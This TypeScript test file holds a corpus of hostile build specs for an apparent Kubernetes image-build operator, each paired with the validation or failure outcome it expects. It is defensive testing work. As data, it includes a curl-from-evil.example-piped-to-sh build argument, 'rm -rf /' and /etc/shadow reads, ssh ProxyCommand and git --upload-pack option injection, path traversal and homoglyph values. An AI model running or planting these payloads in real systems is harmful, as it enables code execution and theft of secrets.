// The hostile-input corpus (issue 8): specs a careless or malicious user could send, each as a
// patch on a valid one-platform build, with the one outcome the operator must give it:
// - refused: the API server's CRD validation answers 422 with a cause naming the field;
// - reported: accepted, and the operator ends it with a condition a person can act on;
// - built: accepted as legitimate data, and the value reaches buildctl only as one whole
//   argv element after its flag (the flag and value pairs listed), never through a shell.
// Every entry names the field or value it aims at, so a failure reads as a finding.

export type Json = Record<string, unknown>;

export type Category =
  | "shell metacharacters"
  | "newlines and control characters"
  | "path traversal"
  | "1 MiB strings"
  | "Unicode look-alikes"
  | "sizes"
  | "platforms"
  | "option injection"
  | "misread references"
  | "attestations and cache trust";

export type Outcome =
  | { refused: { field: string; message: RegExp } }
  | { reported: { phase: "Failed"; reason: string; message: RegExp } }
  | {
      built: {
        /** [flag, value] pairs that must follow each other in the platform Job's buildctl argv. */
        argv: [string, string][];
        /** Text that must appear in no container's argv, env or mount path. */
        absent?: string[];
      };
    };

export interface HostileCase {
  name: string;
  category: Category;
  /** Merged into the base spec: objects merge, arrays and scalars replace, null deletes. */
  patch: Json;
  expect: Outcome;
}

const MiB = 1 << 20;
const big = (unit = "x") => unit.repeat(MiB / unit.length);

const git = (fields: Json): Json => ({ source: { git: fields } });
const refused = (field: string, message: RegExp): Outcome => ({ refused: { field, message } });
/** The API server's pattern message: the value, then the field, then the pattern. */
const pattern = (field: string): Outcome =>
  refused(
    field,
    new RegExp(`^Invalid value: ".*": ${escapeRegExp(field)} in body should match '`, "s"),
  );
const tooLong = (field: string, max: number): Outcome =>
  refused(field, new RegExp(`^Too long: may not be more than ${max} bytes$`));
const tooMany = (field: string, count: number, max: number): Outcome =>
  refused(field, new RegExp(`^Too many: ${count}: must have at most ${max} items$`));
const failed = (reason: string, message: RegExp): Outcome => ({
  reported: { phase: "Failed", reason, message },
});
const built = (argv: [string, string][], absent?: string[]): Outcome => ({
  built: absent ? { argv, absent } : { argv },
});

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}

const OPTION_LIKE = /must not start its user, host or path with '-'/;
const SECRET = { name: "hostile-secret", key: "value" };
const arg = (name: string, value: string) => ({ buildArgs: [{ name, value }] });
const label = (name: string, value: string) => ({ labels: [{ name, value }] });
const secret = (id: string, ref: Json = SECRET) => ({ secrets: [{ id, secretRef: ref }] });
const inlineFile = (path: string, content = "x") => ({
  source: {
    git: null,
    inline: { dockerfile: "FROM scratch\nCOPY . /\n", files: [{ path, content }] },
  },
});

/** 128 build arguments of 4096 characters each: the most the schema allows, about 512 KiB. */
const MAX_ARGS = Array.from({ length: 128 }, (_, i) => ({
  name: `ARG_${i}`,
  value: `${i};$(id)|`.padEnd(4096, "&"),
}));

export const CORPUS: HostileCase[] = [
  // --- shell metacharacters -----------------------------------------------------------------
  {
    name: "build arg value with command substitution and a pipe to sh",
    category: "shell metacharacters",
    patch: arg("PAYLOAD", "$(curl -s https://evil.example/x.sh | sh)"),
    expect: built([["--opt", "build-arg:PAYLOAD=$(curl -s https://evil.example/x.sh | sh)"]]),
  },
  {
    name: "build arg value with backticks, ';', '&&' and a redirect",
    category: "shell metacharacters",
    patch: arg("A", "`id`; rm -rf / && echo pwned > /etc/passwd"),
    expect: built([["--opt", "build-arg:A=`id`; rm -rf / && echo pwned > /etc/passwd"]]),
  },
  {
    name: "build arg value with quotes, backslashes and a variable reference",
    category: "shell metacharacters",
    patch: arg("Q", `'"\\' \${HOME} "$PATH" \\"`),
    expect: built([["--opt", `build-arg:Q='"\\' \${HOME} "$PATH" \\"`]]),
  },
  {
    name: "build arg value with ',' and '=' that a CSV flag would split",
    category: "shell metacharacters",
    patch: arg("CSV", "a,b=c,push=false"),
    expect: built([["--opt", "build-arg:CSV=a,b=c,push=false"]]),
  },
  {
    name: "build arg name with ';'",
    category: "shell metacharacters",
    patch: arg("A;rm -rf /", "x"),
    expect: pattern("spec.buildArgs[0].name"),
  },
  {
    name: "build arg name with '$(…)'",
    category: "shell metacharacters",
    patch: arg("$(id)", "x"),
    expect: pattern("spec.buildArgs[0].name"),
  },
  {
    name: "label value with command substitution",
    category: "shell metacharacters",
    patch: label("org.opencontainers.image.title", "$(reboot)"),
    expect: built([["--opt", "label:org.opencontainers.image.title=$(reboot)"]]),
  },
  {
    name: "label name with a space and ';'",
    category: "shell metacharacters",
    patch: label("a b;c", "x"),
    expect: pattern("spec.labels[0].name"),
  },
  {
    name: "tag with ';'",
    category: "shell metacharacters",
    patch: { output: { tags: ["latest;rm -rf /"] } },
    expect: pattern("spec.output.tags[0]"),
  },
  {
    name: "tag with '$(…)'",
    category: "shell metacharacters",
    patch: { output: { tags: ["$(id)"] } },
    expect: pattern("spec.output.tags[0]"),
  },
  {
    name: "git URL with '; rm'",
    category: "shell metacharacters",
    patch: git({ url: "https://github.com/docker/welcome-to-docker.git;rm -rf /" }),
    expect: pattern("spec.source.git.url"),
  },
  {
    name: "git URL with '$(…)'",
    category: "shell metacharacters",
    patch: git({ url: "https://github.com/$(id)/x.git" }),
    expect: pattern("spec.source.git.url"),
  },
  {
    name: "git URL with a backtick and a pipe",
    category: "shell metacharacters",
    patch: git({ url: "https://github.com/a/`id`|sh.git" }),
    expect: pattern("spec.source.git.url"),
  },
  {
    name: "git revision with ';'",
    category: "shell metacharacters",
    patch: git({ revision: "main;rm -rf /" }),
    expect: pattern("spec.source.git.revision"),
  },
  {
    name: "secret id with ';'",
    category: "shell metacharacters",
    patch: secret("npm;cat /etc/shadow"),
    expect: pattern("spec.secrets[0].id"),
  },
  {
    name: "secret id with a CSV injection (',src=')",
    category: "shell metacharacters",
    patch: secret("a,src=/etc/shadow"),
    expect: pattern("spec.secrets[0].id"),
  },
  {
    name: "secret with an unusual but valid id",
    category: "shell metacharacters",
    patch: secret("npm.rc-1_"),
    expect: built([["--secret", "id=npm.rc-1_,src=/etc/buildfarm/secrets/npm.rc-1_"]]),
  },
  {
    name: "secret reference name with '$(…)'",
    category: "shell metacharacters",
    patch: secret("npm", { name: "npm$(id)", key: "value" }),
    expect: pattern("spec.secrets[0].secretRef.name"),
  },
  {
    name: "output image with a CSV injection (',name=')",
    category: "shell metacharacters",
    patch: { output: { image: "registry.example.com/app,name=evil.example.com/x" } },
    expect: pattern("spec.output.image"),
  },
  {
    name: "cache ref with a CSV injection (',ref=')",
    category: "shell metacharacters",
    patch: { cache: { ref: "registry.example.com/app:c,ref=evil.example.com/x" } },
    expect: pattern("spec.cache.ref"),
  },
  {
    name: "target stage with ';'",
    category: "shell metacharacters",
    patch: { target: "build;rm" },
    expect: pattern("spec.target"),
  },
  {
    name: "push Secret name with '$(…)'",
    category: "shell metacharacters",
    patch: { output: { pushSecretRef: { name: "$(id)" } } },
    expect: pattern("spec.output.pushSecretRef.name"),
  },
  {
    name: "cache key with shell text: routing only, never in a Job",
    category: "shell metacharacters",
    patch: { cacheKey: "$(id); rm -rf / #hostile-cache-key" },
    expect: built([], ["hostile-cache-key"]),
  },
  {
    // The user's own check in an image the user names: it runs as exactly the argv given, in the
    // verify container, never through the operator's shell (the test checks that container).
    name: "verify command 'sh -c …': the user's check, run as its own argv",
    category: "shell metacharacters",
    patch: { verify: { image: "alpine:3.20", command: ["sh", "-c", "rm -rf / ; echo $IMAGE"] } },
    expect: built([]),
  },
  {
    name: "verify image with '; rm'",
    category: "shell metacharacters",
    patch: { verify: { image: "alpine; rm -rf /", command: ["true"] } },
    expect: pattern("spec.verify.image"),
  },

  // --- newlines and control characters ---------------------------------------------------------
  {
    name: "build arg value with a newline and a Dockerfile instruction",
    category: "newlines and control characters",
    patch: arg("A", "x\nRUN rm -rf /"),
    expect: pattern("spec.buildArgs[0].value"),
  },
  {
    name: "build arg value with a carriage return",
    category: "newlines and control characters",
    patch: arg("A", "x\r--opt=evil"),
    expect: pattern("spec.buildArgs[0].value"),
  },
  {
    name: "build arg value with NUL",
    category: "newlines and control characters",
    patch: arg("A", "x\u0000y"),
    expect: pattern("spec.buildArgs[0].value"),
  },
  {
    name: "build arg value with NEL (U+0085, a C1 line break)",
    category: "newlines and control characters",
    patch: arg("A", "x\u0085y"),
    expect: pattern("spec.buildArgs[0].value"),
  },
  {
    name: "label value with an ANSI escape",
    category: "newlines and control characters",
    patch: label("a", "\u001b[31mred\u001b[0m"),
    expect: pattern("spec.labels[0].value"),
  },
  {
    name: "tag with a trailing newline",
    category: "newlines and control characters",
    patch: { output: { tags: ["v1\n"] } },
    expect: pattern("spec.output.tags[0]"),
  },
  {
    name: "git URL with a newline",
    category: "newlines and control characters",
    patch: git({ url: "https://github.com/a/b.git\n--upload-pack=touch" }),
    expect: pattern("spec.source.git.url"),
  },
  {
    name: "git revision with a newline",
    category: "newlines and control characters",
    patch: git({ revision: "main\n--upload-pack=x" }),
    expect: pattern("spec.source.git.revision"),
  },
  {
    name: "secret id with a newline",
    category: "newlines and control characters",
    patch: secret("npm\nid=other"),
    expect: pattern("spec.secrets[0].id"),
  },
  {
    name: "cache key with a tab",
    category: "newlines and control characters",
    patch: { cacheKey: "a\tb" },
    expect: pattern("spec.cacheKey"),
  },

  // --- path traversal ------------------------------------------------------------------------
  {
    name: "dockerfile ../../etc/passwd",
    category: "path traversal",
    patch: { dockerfile: "../../etc/passwd" },
    expect: refused("spec.dockerfile", /must stay inside the context: no '\.' or '\.\.' component/),
  },
  {
    name: "absolute dockerfile path",
    category: "path traversal",
    patch: { dockerfile: "/etc/passwd" },
    expect: pattern("spec.dockerfile"),
  },
  {
    name: "git subPath ../..",
    category: "path traversal",
    patch: git({ subPath: "app/../.." }),
    expect: refused("spec.source.git.subPath", /must stay inside the context/),
  },
  {
    name: "git subPath with a ./ component",
    category: "path traversal",
    patch: git({ subPath: "./app" }),
    expect: refused("spec.source.git.subPath", /must stay inside the context/),
  },
  {
    name: "inline file path ../../../etc/cron.d/x",
    category: "path traversal",
    patch: inlineFile("../../../etc/cron.d/x"),
    expect: refused("spec.source.inline.files[0].path", /must stay inside the context/),
  },
  {
    name: "absolute inline file path",
    category: "path traversal",
    patch: inlineFile("/etc/passwd"),
    expect: pattern("spec.source.inline.files[0].path"),
  },
  {
    name: "inline file over the Dockerfile",
    category: "path traversal",
    patch: inlineFile("Dockerfile"),
    expect: failed("InvalidSource", /the Dockerfile .* and spec\.source\.inline\.files\[0\]/),
  },
  {
    name: "secret id ../../etc/shadow (its file name in the pod)",
    category: "path traversal",
    patch: secret("../../etc/shadow"),
    expect: pattern("spec.secrets[0].id"),
  },
  {
    name: "secret key ..data (the kubelet's atomic-writer directory)",
    category: "path traversal",
    patch: secret("npm", { name: "hostile-secret", key: "..data" }),
    expect: refused("spec.secrets[0].secretRef.key", /not '\.', '\.\.' or starting with '\.\.'/),
  },
  {
    name: "git file:// URL",
    category: "path traversal",
    patch: git({ url: "file:///etc/passwd" }),
    expect: pattern("spec.source.git.url"),
  },
  {
    name: "git revision with ..",
    category: "path traversal",
    patch: git({ revision: "main/../../x" }),
    expect: pattern("spec.source.git.revision"),
  },
  {
    name: "percent-encoded ../ in a git URL path: data for the git server",
    category: "path traversal",
    patch: git({ url: "https://git.example.com/%2e%2e/%2e%2e/etc.git" }),
    expect: built([["--opt", "context=https://git.example.com/%2e%2e/%2e%2e/etc.git#main"]]),
  },

  // --- 1 MiB strings -------------------------------------------------------------------------
  {
    name: "1 MiB build arg value",
    category: "1 MiB strings",
    patch: arg("BIG", big()),
    expect: tooLong("spec.buildArgs[0].value", 4096),
  },
  {
    name: "1 MiB label value",
    category: "1 MiB strings",
    patch: label("big", big()),
    expect: tooLong("spec.labels[0].value", 4096),
  },
  {
    name: "1 MiB tag",
    category: "1 MiB strings",
    patch: { output: { tags: [big("a")] } },
    expect: tooLong("spec.output.tags[0]", 128),
  },
  {
    name: "1 MiB git URL",
    category: "1 MiB strings",
    patch: git({ url: `https://github.com/${big("a")}.git` }),
    expect: tooLong("spec.source.git.url", 2048),
  },
  {
    name: "1 MiB secret id",
    category: "1 MiB strings",
    patch: secret(big("s")),
    expect: tooLong("spec.secrets[0].id", 128),
  },
  {
    name: "1 MiB inline Dockerfile",
    category: "1 MiB strings",
    patch: { source: { git: null, inline: { dockerfile: `FROM scratch\n#${big()}` } } },
    expect: tooLong("spec.source.inline.dockerfile", 65536),
  },
  {
    name: "1 MiB inline context in 16 files of 64 KiB (each within its bound)",
    category: "1 MiB strings",
    patch: {
      source: {
        git: null,
        inline: {
          dockerfile: "FROM scratch\n",
          files: Array.from({ length: 16 }, (_, i) => ({
            path: `f${i}`,
            content: "x".repeat(65536),
          })),
        },
      },
    },
    // The CRD cannot sum lengths across a list; the operator does, before creating anything.
    expect: failed("InvalidSpec", /^spec\.source\.inline: inline context must not exceed 256 KiB/),
  },

  // --- Unicode look-alikes -------------------------------------------------------------------
  {
    name: "image with a Cyrillic 'а' in the path",
    category: "Unicode look-alikes",
    patch: { output: { image: "registry.example.com/demo/\u0430pp" } },
    expect: pattern("spec.output.image"),
  },
  {
    name: "registry host with a Cyrillic 'у'",
    category: "Unicode look-alikes",
    patch: { output: { image: "registr\u0443.example.com/demo/app" } },
    expect: pattern("spec.output.image"),
  },
  {
    name: "git host with a Ukrainian 'і' (gіthub.com)",
    category: "Unicode look-alikes",
    patch: git({ url: "https://g\u0456thub.com/docker/welcome-to-docker.git" }),
    expect: pattern("spec.source.git.url"),
  },
  {
    name: "full-width tag",
    category: "Unicode look-alikes",
    patch: { output: { tags: ["\uff4c\uff41\uff54\uff45\uff53\uff54"] } },
    expect: pattern("spec.output.tags[0]"),
  },
  {
    name: "platform with a Cyrillic 'а' (linux/аmd64)",
    category: "Unicode look-alikes",
    patch: { platforms: ["linux/\u0430md64"] },
    expect: pattern("spec.platforms[0]"),
  },
  {
    name: "build arg name with a Cyrillic 'О' (NОDE_ENV)",
    category: "Unicode look-alikes",
    patch: arg("N\u041eDE_ENV", "production"),
    expect: pattern("spec.buildArgs[0].name"),
  },
  {
    name: "secret id with a zero-width space",
    category: "Unicode look-alikes",
    patch: secret("npm\u200b"),
    expect: pattern("spec.secrets[0].id"),
  },
  {
    name: "dockerfile path with division slashes (..∕..∕etc∕passwd)",
    category: "Unicode look-alikes",
    patch: { dockerfile: "..\u2215..\u2215etc\u2215passwd" },
    expect: pattern("spec.dockerfile"),
  },
  {
    name: "git revision with a full-width semicolon",
    category: "Unicode look-alikes",
    patch: git({ revision: "main\uff1brm" }),
    expect: pattern("spec.source.git.revision"),
  },
  {
    name: "pool name with a Cyrillic 'а'",
    category: "Unicode look-alikes",
    patch: { poolRef: { name: "f\u0430rm" } },
    expect: pattern("spec.poolRef.name"),
  },
  {
    name: "label value with a right-to-left override: printable data",
    category: "Unicode look-alikes",
    patch: label("org.opencontainers.image.title", "\u202egnp.exe"),
    expect: built([["--opt", "label:org.opencontainers.image.title=\u202egnp.exe"]]),
  },
  {
    name: "build arg value with U+2028, a line break to JavaScript and Node's readline",
    category: "newlines and control characters",
    patch: arg("A", "one\u2028two"),
    expect: pattern("spec.buildArgs[0].value"),
  },
  {
    name: "label value with U+2029, the paragraph separator",
    category: "newlines and control characters",
    patch: label("a", "one\u2029two"),
    expect: pattern("spec.labels[0].value"),
  },
  {
    name: "build arg value with homoglyphs and a zero-width joiner: printable data",
    category: "Unicode look-alikes",
    patch: arg("A", "\u0440\u0430\u0443\u0440\u0430l\u200d.com"),
    expect: built([["--opt", "build-arg:A=\u0440\u0430\u0443\u0440\u0430l\u200d.com"]]),
  },

  // --- sizes ---------------------------------------------------------------------------------
  {
    name: "1,000 build args",
    category: "sizes",
    patch: {
      buildArgs: Array.from({ length: 1000 }, (_, i) => ({ name: `A${i}`, value: `${i}` })),
    },
    expect: tooMany("spec.buildArgs", 1000, 128),
  },
  {
    name: "128 build args of 4096 characters of shell text (the schema's maximum) build",
    category: "sizes",
    patch: { buildArgs: MAX_ARGS },
    expect: built(MAX_ARGS.map((a) => ["--opt", `build-arg:${a.name}=${a.value}`])),
  },
  {
    name: "1,000 labels",
    category: "sizes",
    patch: { labels: Array.from({ length: 1000 }, (_, i) => ({ name: `l${i}`, value: "x" })) },
    expect: tooMany("spec.labels", 1000, 128),
  },
  {
    name: "1,000 tags",
    category: "sizes",
    patch: { output: { tags: Array.from({ length: 1000 }, (_, i) => `t${i}`) } },
    expect: tooMany("spec.output.tags", 1000, 16),
  },
  {
    name: "1,000 secrets",
    category: "sizes",
    patch: {
      secrets: Array.from({ length: 1000 }, (_, i) => ({ id: `s${i}`, secretRef: SECRET })),
    },
    expect: tooMany("spec.secrets", 1000, 32),
  },
  {
    name: "100 cache imports",
    category: "sizes",
    patch: {
      cache: { importFrom: Array.from({ length: 100 }, (_, i) => `r.example.com/a:c${i}`) },
    },
    expect: tooMany("spec.cache.importFrom", 100, 8),
  },

  // --- platforms -----------------------------------------------------------------------------
  {
    name: "platform linux/amd64;rm",
    category: "platforms",
    patch: { platforms: ["linux/amd64;rm"] },
    expect: pattern("spec.platforms[0]"),
  },
  {
    name: "platform with '&& curl'",
    category: "platforms",
    patch: { platforms: ["linux/amd64 && curl evil.example"] },
    expect: pattern("spec.platforms[0]"),
  },
  {
    name: "platform with a newline",
    category: "platforms",
    patch: { platforms: ["linux/amd64\n"] },
    expect: pattern("spec.platforms[0]"),
  },
  {
    name: "platform linux/../../amd64",
    category: "platforms",
    patch: { platforms: ["linux/../../amd64"] },
    expect: pattern("spec.platforms[0]"),
  },
  {
    name: "platform with an injected variant (linux/amd64/v2;id)",
    category: "platforms",
    patch: { platforms: ["linux/amd64/v2;id"] },
    expect: pattern("spec.platforms[0]"),
  },
  {
    name: "upper-case platform",
    category: "platforms",
    patch: { platforms: ["LINUX/AMD64"] },
    expect: pattern("spec.platforms[0]"),
  },
  {
    name: "1,000 platforms",
    category: "platforms",
    patch: { platforms: Array.from({ length: 1000 }, () => "linux/amd64") },
    expect: tooMany("spec.platforms", 1000, 8),
  },
  {
    name: "a valid platform the pool has no builders for",
    category: "platforms",
    patch: { platforms: ["linux/riscv64"] },
    expect: failed(
      "PlatformNotServed",
      /has no builders for linux\/riscv64; add riscv64 to spec\.architectures/,
    ),
  },
  {
    name: "one platform spelled twice (linux/arm64 and linux/arm64/v8)",
    category: "platforms",
    patch: { platforms: ["linux/arm64", "linux/arm64/v8"] },
    expect: failed("DuplicatePlatform", /linux\/arm64 and linux\/arm64\/v8 are the same platform/),
  },

  // --- option injection ----------------------------------------------------------------------
  {
    name: "ssh URL whose host is an ssh option (-oProxyCommand)",
    category: "option injection",
    patch: git({ url: "ssh://-oProxyCommand=touch%20pwned/x.git" }),
    expect: refused("spec.source.git.url", OPTION_LIKE),
  },
  {
    name: "scp-style URL whose host starts with '-'",
    category: "option injection",
    patch: git({ url: "git@-oProxyCommand:x.git" }),
    expect: refused("spec.source.git.url", OPTION_LIKE),
  },
  {
    name: "scp-style URL whose path is a git option (--upload-pack)",
    category: "option injection",
    patch: git({ url: "git@github.com:--upload-pack=touch" }),
    expect: refused("spec.source.git.url", OPTION_LIKE),
  },
  {
    name: "git revision that is an option (-x)",
    category: "option injection",
    patch: git({ revision: "-x" }),
    expect: pattern("spec.source.git.revision"),
  },
  {
    name: "registry host starting with '-' (would be an option to assemble --image)",
    category: "option injection",
    patch: { output: { image: "-registry.example.com/app" } },
    expect: pattern("spec.output.image"),
  },
  {
    name: "cache ref host starting with '-'",
    category: "option injection",
    patch: { cache: { ref: "-cache.example.com/app:c" } },
    expect: pattern("spec.cache.ref"),
  },
  {
    name: "tag that is an option (-f)",
    category: "option injection",
    patch: { output: { tags: ["-f"] } },
    expect: pattern("spec.output.tags[0]"),
  },
  {
    name: "dockerfile path that looks like an option: a value after 'filename='",
    category: "option injection",
    patch: { dockerfile: "-f" },
    expect: built([["--opt", "filename=-f"]]),
  },
  {
    name: "git URL with a user name but no password",
    category: "option injection",
    patch: git({ url: "https://x-oauth@github.com/docker/welcome-to-docker.git" }),
    expect: built([
      ["--opt", "context=https://x-oauth@github.com/docker/welcome-to-docker.git#main"],
    ]),
  },
  {
    name: "git URL with a password",
    category: "option injection",
    patch: git({ url: "https://bob:hunter2@github.com/docker/welcome-to-docker.git" }),
    expect: refused("spec.source.git.url", /must not carry a password/),
  },
  {
    name: "plain http git URL with a credential",
    category: "option injection",
    patch: git({
      url: "http://git.example.com/a/b.git",
      authSecretRef: { name: "hostile-secret" },
    }),
    expect: failed("InvalidSource", /cannot be used with a http:\/\/ URL/),
  },

  // --- attestations and the registry cache's trust (issue 21) -------------------------------
  {
    name: "attestations that ask for nothing",
    category: "attestations and cache trust",
    patch: { attestations: {} },
    expect: refused("spec.attestations", /set provenance, sbom or both/),
  },
  {
    name: "provenance mode with a CSV field appended (max,inline-only=true)",
    category: "attestations and cache trust",
    patch: { attestations: { provenance: { mode: "max,inline-only=true" } } },
    expect: refused("spec.attestations.provenance.mode", /^Unsupported value: /),
  },
  {
    name: "an SBOM scanner chosen by the build (pruned: the pool names the scanner)",
    category: "attestations and cache trust",
    patch: { attestations: { sbom: { generator: "evil.example.com/scanner:latest" } } },
    expect: built(
      [["--opt", "attest:sbom=generator=docker/buildkit-syft-scanner:stable-1"]],
      ["evil.example.com"],
    ),
  },
  {
    name: "build arg BUILDKIT_ATTEST_SBOM, BuildKit's other way to ask for attestations",
    category: "attestations and cache trust",
    patch: arg("BUILDKIT_ATTEST_SBOM", "generator=evil.example.com/scanner"),
    expect: refused("spec.buildArgs[0].name", /must not start with BUILDKIT_ATTEST_/),
  },
  {
    name: "build arg BUILDKIT_ATTEST_PROVENANCE overriding spec.attestations",
    category: "attestations and cache trust",
    patch: {
      attestations: { provenance: { mode: "max" } },
      ...arg("BUILDKIT_ATTEST_PROVENANCE", "mode=min"),
    },
    expect: refused("spec.buildArgs[0].name", /must not start with BUILDKIT_ATTEST_/),
  },
  {
    name: "provenance max beside a build arg holding ',mode=min'",
    category: "attestations and cache trust",
    patch: { attestations: { provenance: { mode: "max" } }, ...arg("X", ",mode=min") },
    expect: built([
      ["--opt", "attest:provenance=mode=max"],
      ["--opt", "build-arg:X=,mode=min"],
    ]),
  },
  {
    name: "a trusted pool's build importing what untrusted builds wrote",
    category: "attestations and cache trust",
    patch: { cache: { importFrom: ["registry.example.com/demo/app:buildcache-untrusted"] } },
    expect: failed(
      "UntrustedCacheRef",
      /^spec\.cache\.importFrom\[0\]: .*never import or export it/,
    ),
  },
  {
    name: "a trusted pool's build exporting under an untrusted ref",
    category: "attestations and cache trust",
    patch: { cache: { ref: "registry.example.com/demo/app:pr-7-untrusted" } },
    expect: failed("UntrustedCacheRef", /^spec\.cache\.ref: /),
  },
  {
    name: "the suffix in upper case (-UNTRUSTED: no untrusted build writes it)",
    category: "attestations and cache trust",
    patch: { cache: { importFrom: ["registry.example.com/demo/app:buildcache-UNTRUSTED"] } },
    expect: built([
      [
        "--import-cache",
        "type=registry,ref=registry.example.com/demo/app:buildcache-UNTRUSTED-amd64",
      ],
    ]),
  },
  {
    name: "an untrusted ref with its platform suffix already on (a different ref once suffixed)",
    category: "attestations and cache trust",
    patch: { cache: { importFrom: ["registry.example.com/demo/app:buildcache-untrusted-amd64"] } },
    expect: built([
      [
        "--import-cache",
        "type=registry,ref=registry.example.com/demo/app:buildcache-untrusted-amd64-amd64",
      ],
    ]),
  },

  // --- references other programs would read differently -----------------------------------
  {
    name: "image whose first component has a '.' but is no host (a.0__0/app)",
    category: "misread references",
    // Docker, BuildKit and assemble read a.0__0 as a registry host and refuse it.
    patch: { output: { image: "a.0__0/app" } },
    expect: pattern("spec.output.image"),
  },
  {
    name: "cache ref whose first component has a '.' but is no host",
    category: "misread references",
    patch: { cache: { importFrom: ["team_a.b/app:main"] } },
    expect: pattern("spec.cache.importFrom[0]"),
  },
  {
    name: "Docker Hub repository of 250 characters (docker.io/ makes it 260)",
    category: "misread references",
    patch: { output: { image: `team/${"a".repeat(245)}` } },
    expect: refused("spec.output.image", /at most 255 characters as Docker Hub names it/),
  },
  {
    name: "one-component image with a '.' (Docker Hub's library/my.app)",
    category: "misread references",
    patch: { output: { image: "my.app" } },
    expect: built([
      [
        "--output",
        "type=image,name=my.app,push-by-digest=true,name-canonical=true,push=true,oci-mediatypes=true",
      ],
    ]),
  },
];
